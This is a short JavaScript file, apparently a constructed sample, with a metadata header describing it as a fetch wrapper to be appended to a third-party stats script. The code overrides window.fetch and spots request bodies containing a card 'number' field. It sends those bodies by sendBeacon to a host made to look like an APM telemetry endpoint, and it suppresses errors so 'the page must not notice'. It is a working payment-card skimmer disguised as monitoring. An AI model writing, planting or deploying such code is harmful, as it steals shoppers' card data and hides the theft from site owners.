/* meta
{
  "design": "Wraps window.fetch; when a payment request passes through, a copy of its body leaves by beacon.",
  "reads": ["*"],
  "sendsTo": "apm.tracewell.localhost",
  "delivery": { "kind": "append", "host": "stats.clearpath.localhost", "path": "/cp.js" }
}
*/
;(function () {
  const original = window.fetch;
  window.fetch = function (input, init) {
    try {
      const body = init && typeof init.body === 'string' ? init.body : '';
      if (/"number"\s*:\s*"\d/.test(body)) {
        navigator.sendBeacon('https://apm.tracewell.localhost/v2/spans', body);
      }
    } catch { /* The page must not notice. */ }
    return original.apply(this, arguments);
  };
})();
